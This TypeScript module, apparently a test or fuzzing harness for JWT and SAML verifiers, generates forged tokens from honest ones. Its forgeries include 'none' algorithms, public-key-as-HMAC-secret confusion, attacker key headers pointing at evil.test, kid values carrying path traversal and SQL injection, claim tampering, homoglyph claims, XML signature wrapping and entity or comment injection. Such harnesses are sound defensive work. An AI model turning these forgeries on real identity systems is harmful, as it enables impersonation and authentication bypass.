/**
 * Ways to forge a signed statement without its key: a JWT, or an assertion of SAML. Every forgery is made of honest ones
 * that the forger holds, of keys of his own and of what is public. Repeatable: the same chance makes the same forgeries.
 */
import { createHmac, generateKeyPairSync, sign, type KeyObject } from "node:crypto";

export interface ForgersChance {
  below(limit: number): number;
  pick<T>(from: readonly T[]): T;
}

export interface ForgersMeans {
  /** Honest statements of every kind and tenant; the forger may mix them. */
  honest: readonly string[];
  /** The public keys that verify them. */
  publicKeys: readonly KeyObject[];
  /** What may stand in `aud`, `tid`, `oid`, `upn`, `iss`: of others. */
  values: readonly unknown[];
}

type Json = Record<string, unknown>;

const own = generateKeyPairSync("rsa", { modulusLength: 2048 });
const ownJwk = own.publicKey.export({ format: "jwk" });

const encoded = (value: unknown): string => Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");
const decoded = (part: string): Json => JSON.parse(Buffer.from(part, "base64url").toString()) as Json;
const parts = (token: string): [string, string, string] => token.split(".") as [string, string, string];
const byOwnKey = (header: unknown, claims: unknown): string => {
  const text = `${encoded(header)}.${encoded(claims)}`;
  return `${text}.${sign("sha256", Buffer.from(text), own.privateKey).toString("base64url")}`;
};

/** What a forger would like the claims to be. */
function wished(claims: Json, chance: ForgersChance, { values }: ForgersMeans): Json {
  const names = [
    "aud",
    "tid",
    "oid",
    "sub",
    "upn",
    "iss",
    "appid",
    "roles",
    "scp",
    "idtyp",
    "amr",
    "exp",
    "nbf",
    "iat",
    "jti",
    "ver",
    "__proto__",
  ];
  const now = Math.floor(Date.now() / 1000);
  const more = [
    now + 1e6,
    -1,
    0,
    1e30,
    null,
    true,
    "",
    [],
    {},
    [claims["aud"], "https://evil.test"],
    "user_impersonation",
    "app",
    String(now + 1e6),
  ];
  const changed: Json = { ...claims };
  for (let i = 0; i <= chance.below(3); i += 1) {
    const name = chance.pick(names);
    if (chance.below(5) === 0) delete changed[name];
    else
      Object.defineProperty(changed, name, {
        value: chance.pick([...values, ...more]),
        enumerable: true,
        configurable: true,
        writable: true,
      });
  }
  return changed;
}

type Way = (token: string, chance: ForgersChance, means: ForgersMeans) => string;

const ALGORITHMS = [
  "none",
  "None",
  "NONE",
  "nOnE",
  "",
  "HS256",
  "HS384",
  "HS512",
  "RS384",
  "RS512",
  "PS256",
  "ES256",
  "EdDSA",
  "rs256",
  "RS256 ",
  "ＲＳ256",
  "RS256\0",
];
const KIDS: unknown[] = [
  "",
  "../../dev/null",
  "' or '1'='1",
  "%",
  null,
  0,
  [],
  {},
  "__proto__",
  "constructor",
  "x".repeat(5000),
  "common",
  "\0",
];

const JWT_WAYS: Readonly<Record<string, Way>> = {
  "no algorithm": (token, chance, means) => {
    const [header, claims, signature] = parts(token);
    const made = `${encoded({ ...decoded(header), alg: chance.pick(ALGORITHMS) })}.${encoded(wished(decoded(claims), chance, means))}`;
    return `${made}.${chance.pick(["", signature, "AA", "none"])}`;
  },
  "public key as secret": (token, chance, { publicKeys }) => {
    const [header, claims] = parts(token);
    const [alg, hash] = chance.pick([
      ["HS256", "sha256"],
      ["HS384", "sha384"],
      ["HS512", "sha512"],
    ] as const);
    const key = chance.pick(publicKeys);
    const pem = key.export({ type: "spki", format: "pem" }) as string;
    const jwk = key.export({ format: "jwk" }) as { n?: string };
    const secrets = [
      pem,
      pem.trim(),
      key.export({ type: "spki", format: "der" }),
      JSON.stringify(jwk),
      jwk.n ?? "",
      Buffer.from(jwk.n ?? "", "base64url"),
      Buffer.alloc(32),
      String(decoded(header)["kid"]),
    ];
    const text = `${encoded({ ...decoded(header), alg: chance.pick([alg, alg, "RS256"]) })}.${claims}`;
    return `${text}.${createHmac(hash, chance.pick(secrets)).update(text).digest("base64url")}`;
  },
  "own key": (token, chance, means) => {
    const [header, claims] = parts(token);
    const dressed = chance.pick<Json>([
      {},
      { jwk: ownJwk },
      { jku: "https://evil.test/keys" },
      { x5u: "https://evil.test/x5u" },
      { x5c: ["AAAA"] },
      { kid: chance.pick(KIDS) },
      { kid: chance.pick(KIDS), jwk: ownJwk },
      { x5t: "AAAA", "x5t#S256": "AAAA" },
      { typ: chance.pick(["JWT", "at+jwt", "webticket+jwt", "application/at+jwt", "AT+JWT"]) },
    ]);
    return byOwnKey({ ...decoded(header), ...dressed }, chance.below(3) === 0 ? decoded(claims) : wished(decoded(claims), chance, means));
  },
  "changed claims": (token, chance, means) => {
    const [header, claims, signature] = parts(token);
    return `${header}.${encoded(wished(decoded(claims), chance, means))}.${signature}`;
  },
  "changed header": (token, chance) => {
    const [header, claims, signature] = parts(token);
    const more = chance.pick<Json>([
      { kid: chance.pick(KIDS) },
      { typ: chance.pick(["JWT", "webticket+jwt", "at+jwt", "", null]) },
      { crit: ["exp"] },
      { crit: [], b64: true },
      { crit: ["b64"], b64: false },
      { zip: "DEF" },
      { cty: "JWT" },
      { enc: "A128GCM" },
    ]);
    return `${encoded({ ...decoded(header), ...more })}.${claims}.${signature}`;
  },
  mixed: (_, chance, { honest }) => {
    const from = (i: 0 | 1 | 2): string => parts(chance.pick(honest))[i];
    return `${from(0)}.${from(1)}.${from(2)}`;
  },
  "double members": (token, chance, { values }) => {
    const [header, claims, signature] = parts(token);
    const name = chance.pick(["alg", "kid", "typ", "aud", "tid", "oid", "exp", "iss"]);
    const twice = (part: string): string => {
      const text = Buffer.from(part, "base64url").toString();
      const member = `${JSON.stringify(name)}:${JSON.stringify(chance.pick(["none", 9_999_999_999, ...values])) ?? "null"}`;
      return encoded(chance.below(2) === 0 ? text.replace("{", () => `{${member},`) : text.replace(/}$/, () => `,${member}}`));
    };
    return chance.below(2) === 0 ? `${twice(header)}.${claims}.${signature}` : `${header}.${twice(claims)}.${signature}`;
  },
  "letters that look alike": (token, chance) => {
    const [header, claims, signature] = parts(token);
    const text = Buffer.from(claims, "base64url").toString();
    const odd = chance.pick([
      text.replace("a", "а"),
      text.replace(".com", ".com​"),
      `﻿${text}`,
      text.normalize("NFD").replace("e", "é"),
      text.replace("@", "＠"),
      text.replaceAll('"', "＂"),
      `${text}\0`,
      text.replace(/"upn":"/, '"upn":"\\u0061'),
    ]);
    return `${header}.${encoded(odd)}.${signature}`;
  },
  nested: (token, chance, means) => {
    const inner = byOwnKey({ alg: "RS256", typ: "at+jwt" }, wished(decoded(parts(token)[1]), chance, means));
    return chance.pick([
      byOwnKey({ alg: "RS256", cty: "JWT", kid: decoded(parts(token)[0])["kid"] }, token),
      `${encoded(token)}.${encoded(inner)}.${parts(token)[2]}`,
      `${token}.${inner}`,
      `${inner}.${token}`,
    ]);
  },
  "another serialization": (token, chance) => {
    const [header, claims, signature] = parts(token);
    return chance.pick([
      JSON.stringify({ protected: header, payload: claims, signature }),
      JSON.stringify({ payload: claims, signatures: [{ protected: header, signature }] }),
      JSON.stringify({ header: decoded(header), payload: claims, signature }),
      `${header}..${signature}`,
      `${header}.${claims}`,
      `${header}.${claims}.`,
      `.${claims}.${signature}`,
      `${token}.`,
      `${token}.AAAA.AAAA`,
      `${header}.${claims}.${signature}.${signature}`,
    ]);
  },
  cut: (token, chance) => token.slice(chance.below(4) === 0 ? 1 + chance.below(20) : 0, chance.below(token.length)),
  "another spelling": (token, chance) => {
    const [header, claims, signature] = parts(token);
    const standard = (part: string): string => part.replaceAll("-", "+").replaceAll("_", "/");
    const odd = (part: string): string =>
      chance.pick([
        `${part}=`,
        `${part}==`,
        standard(part),
        ` ${part}`,
        `${part}\n`,
        `${part.slice(0, 5)} ${part.slice(5)}`,
        `${part}!`,
        `${part}A`,
        loosened(part, chance),
        Buffer.from(part, "base64url").toString("hex"),
        encodeURIComponent(`${part}=`),
      ]);
    return chance.pick([
      `${odd(header)}.${claims}.${signature}`,
      `${header}.${odd(claims)}.${signature}`,
      `${header}.${claims}.${odd(signature)}`,
    ]);
  },
  "any octet": (token, chance) => {
    const at = chance.below(token.length);
    return token.slice(0, at) + chance.pick("AZaz09-_.=+/ \0é".split("")) + token.slice(at + chance.below(3));
  },
};

/** The last digit's bits that no octet takes. */
function loosened(part: string, chance: ForgersChance): string {
  const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  const spare = part.length % 4 === 2 ? 16 : part.length % 4 === 3 ? 4 : 1;
  const last = digits.indexOf(part.at(-1) ?? "A");
  return part.slice(0, -1) + (digits[last - (last % spare) + chance.below(spare)] ?? "A");
}

export const JWT_FORGERIES = Object.keys(JWT_WAYS);

/** One forgery of one of the honest tokens. */
export function forgeJwt(chance: ForgersChance, means: ForgersMeans, names = JWT_FORGERIES): { how: string; forged: string } {
  const how = chance.pick(names);
  return { how, forged: (JWT_WAYS[how] as Way)(chance.pick(means.honest), chance, means) };
}

/** True where exactly what was signed is said, whatever the spelling of the signature. */
export function saysTheSame(forged: string, honest: readonly string[]): boolean {
  const [header, claims, signature = "", ...more] = forged.trim().split(".");
  return honest.some((each) => {
    const [hisHeader, hisClaims, hisSignature] = parts(each);
    const same = Buffer.from(signature, "base64url").equals(Buffer.from(hisSignature, "base64url"));
    return more.length === 0 && header === hisHeader && claims === hisClaims && same;
  });
}

const EVIL = "viewer@contoso.com";
const SIGNATURE = /<ds:Signature[^]*<\/ds:Signature>/;
const CLOSE = "</saml:Assertion>";

type XmlWay = (xml: string, chance: ForgersChance, means: ForgersMeans) => string;

/** The honest one with another content under its own or another identifier, unsigned. */
function bare(xml: string, chance: ForgersChance): string {
  const named = xml.replace(SIGNATURE, "").replace(/[a-z]+@[a-z.]+/g, EVIL);
  return chance.below(2) === 0 ? named : named.replace(/AssertionID="[^"]+"/, `AssertionID="_${"0".repeat(32)}"`);
}

const XML_WAYS: Readonly<Record<string, XmlWay>> = {
  wrapping: (xml, chance) => {
    const evil = bare(xml, chance);
    const signature = SIGNATURE.exec(xml)?.[0] ?? "";
    const holding = (inside: string): string => signature.replace("</ds:Signature>", `<ds:Object>${inside}</ds:Object></ds:Signature>`);
    const plain = xml.replace(SIGNATURE, "");
    return chance.pick([
      evil.replace(CLOSE, `${xml}${CLOSE}`),
      evil.replace(CLOSE, `${signature}${CLOSE}`),
      evil.replace(CLOSE, `${holding(plain)}${CLOSE}`),
      evil.replace(CLOSE, `${holding(xml)}${CLOSE}`),
      evil.replace("<saml:Conditions", `${xml}<saml:Conditions`),
      evil.replace("<saml:Conditions", `<saml:Advice>${xml}</saml:Advice><saml:Conditions`),
      evil.replace("<saml:Conditions", `${signature}<saml:Conditions`),
      xml.replace(CLOSE, `${evil}${CLOSE}`),
      `${evil}${xml}`,
      `${xml}${evil}`,
      `<x>${evil}${xml}</x>`,
      xml.replace(SIGNATURE, (found) => found.replace("</ds:SignedInfo>", `</ds:SignedInfo>${evil}`)),
      xml.replace(SIGNATURE, (found) => found.replace("<ds:KeyInfo>", `<ds:KeyInfo>${evil}`)),
    ]);
  },
  "other signature": (xml, chance, { publicKeys }) => {
    const algorithm = chance.pick([
      ["hmac-sha1", "sha1"],
      ["hmac-sha256", "sha256"],
    ] as const);
    const pem = chance.pick(publicKeys).export({ type: "spki", format: "pem" }) as string;
    const info = /<ds:SignedInfo[^]*<\/ds:SignedInfo>/.exec(xml)?.[0] ?? "";
    const hmac = createHmac(algorithm[1], pem).update(info).digest("base64");
    const byOwn = sign("sha256", Buffer.from(info), own.privateKey).toString("base64");
    const value = /(<ds:SignatureValue>)[^<]*/;
    return chance.pick([
      xml
        .replace(/Algorithm="[^"]*rsa-sha256"/, `Algorithm="http://www.w3.org/2000/09/xmldsig#${algorithm[0]}"`)
        .replace(value, `$1${hmac}`),
      xml.replace(value, `$1${hmac}`),
      xml.replace(EVIL, "").replace(value, `$1${byOwn}`),
      xml.replace(value, "$1"),
      xml
        .replace(
          /<ds:KeyName>[^<]*<\/ds:KeyName>/,
          `<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>${ownJwk.n}</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`,
        )
        .replace(value, `$1${byOwn}`),
      xml.replace(SIGNATURE, ""),
      xml.replace(SIGNATURE, "$&$&"),
      xml.replace(/URI="[^"]*"/, chance.pick(['URI=""', 'URI="#x"', 'URI="#xpointer(/)"', 'URI="http://evil.test"', ""])),
      xml.replace(
        /<ds:Transforms>/,
        '$&<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>false()</ds:XPath></ds:Transform>',
      ),
      xml.replaceAll("xml-exc-c14n#", "xml-exc-c14n#WithComments"),
      xml.replace("xmlenc#sha256", "sha1"),
      xml.replace(/(<ds:DigestValue>)[^<]*/, `$1${Buffer.alloc(32).toString("base64")}`),
      xml.replace(/(<ds:Reference[^]*<\/ds:Reference>)/, "$1$1"),
    ]);
  },
  "changed content": (xml, chance, { values }) => {
    const value = String(chance.pick(values));
    return chance.pick([
      xml.replace(/[a-z]+@[a-z.]+/g, EVIL),
      xml.replace(/[a-z]+@[a-z.]+/, EVIL),
      xml.replace(/NotOnOrAfter="\d{4}/, 'NotOnOrAfter="2199'),
      xml.replace(/NotBefore="\d{4}/, 'NotBefore="1999'),
      xml.replace(/(<saml:Audience>)[^<]*/, `$1${value}`),
      xml.replace(/Issuer="[^"]*"/, `Issuer="${value}"`),
      xml.replace(/(AttributeName="ObjectId"[^>]*><saml:AttributeValue>)[^<]*/, `$1${value}`),
      xml.replace(
        "<saml:AttributeStatement>",
        `<saml:AttributeStatement><saml:Attribute AttributeName="ObjectId"><saml:AttributeValue>${value}</saml:AttributeValue></saml:Attribute>`,
      ),
      xml.replace(
        "</saml:Conditions>",
        `<saml:AudienceRestrictionCondition><saml:Audience>${value}</saml:Audience></saml:AudienceRestrictionCondition></saml:Conditions>`,
      ),
      xml.replace(/<saml:Conditions[^]*?<\/saml:Conditions>/, "$&$&"),
      xml.replace(/<saml:Conditions[^]*?<\/saml:Conditions>/, ""),
    ]);
  },
  "tricks of XML": (xml, chance) =>
    chance.pick([
      xml.replaceAll("@contoso.com", "@contoso.com<!-- -->.evil.test"),
      xml.replace("@contoso.com", "<!-- -->@contoso.com"),
      xml.replace("admin@", "<?x y?>admin@"),
      xml.replace(/admin@contoso.com/g, "<![CDATA[viewer@contoso.com]]>"),
      `<!DOCTYPE a [<!ENTITY e "viewer">]>${xml.replaceAll("admin@", "&e;@")}`,
      `<!DOCTYPE saml:Assertion [<!ATTLIST saml:Assertion AssertionID ID #IMPLIED>]>${xml}`,
      xml.replace("<saml:Conditions", '<saml:Conditions xmlns:saml="urn:x"'),
      xml.replace("<saml:Assertion", '<saml:Assertion xmlns:evil="urn:evil" ID="x" Id="x"'),
      xml.replace("AssertionID=", 'AssertionID="_1" assertionId='),
      xml.replace(/AssertionID="([^"]*)"/, 'AssertionID="&#95;$1"'),
      xml.replaceAll("saml:", "evil:"),
      `<?xml version="1.0" encoding="utf-7"?>${xml}`,
      `﻿${xml}`,
      xml.replaceAll("><", ">\n<"),
      xml.replaceAll("admin@", "аdmin@"),
    ]),
  cut: (xml, chance) => xml.slice(0, chance.below(xml.length)),
  "any octet": (xml, chance) => {
    const at = chance.below(xml.length);
    return xml.slice(0, at) + chance.pick('<>/"&; aZ0_#=\0é'.split("")) + xml.slice(at + chance.below(3));
  },
  mixed: (xml, chance, { honest }) => {
    const other = SIGNATURE.exec(chance.pick(honest))?.[0] ?? "";
    return bare(xml, chance).replace(CLOSE, `${other}${CLOSE}`);
  },
};

export const ASSERTION_FORGERIES = Object.keys(XML_WAYS);

export function forgeAssertion(chance: ForgersChance, means: ForgersMeans, names = ASSERTION_FORGERIES): { how: string; forged: string } {
  const how = chance.pick(names);
  return { how, forged: (XML_WAYS[how] as XmlWay)(chance.pick(means.honest), chance, means) };
}
